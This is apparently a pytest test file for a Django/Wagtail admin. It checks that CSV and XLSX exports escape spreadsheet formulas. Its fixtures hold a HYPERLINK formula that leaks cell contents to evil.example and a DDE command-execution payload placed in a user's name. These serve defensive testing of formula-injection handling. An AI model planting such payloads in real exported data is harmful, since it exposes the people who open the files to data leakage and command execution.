"""Every spreadsheet export neutralises formulas, the Wagtail admin's included: an employer
a participant requests as '=HYPERLINK(...)' reaches an administrator's spreadsheet as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from organisations.models import Membership, Organisation, OrganisationKind
from tests.factories import UserFactory, municipality

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Klikk")'


@pytest.fixture
def requested(client, site):
    """A participant requests a missing employer with a formula for a name."""
    person = UserFactory(email="deltaker@example.no", first_name="=cmd|' /C calc'!A0")
    client.force_login(person)
    response = client.post(
        "/min-side/arbeidsgiver/",
        {
            "request": "1",
            "name": EVIL,
            "municipality": municipality("5501").pk,
            "kind": OrganisationKind.OTHER,
        },
    )
    assert response.status_code == 302
    client.logout()
    return Organisation.objects.get(name=EVIL)


def csv_cells(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    data = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "url",
    ["/admin/organisations/", "/admin/pending_organisations/", "/admin/memberships/"],
)
def test_admin_exports_keep_formulas_as_text(client, superuser, requested, url):
    assert Membership.objects.filter(organisation=requested).exists()
    client.force_login(superuser)
    for export, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(url, {"export": export})
        assert response.status_code == 200
        cells = [c for c in cells_of(response) if isinstance(c, str)]
        assert any(c.startswith("'" + EVIL) for c in cells), (export, cells)
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), (export, cells)
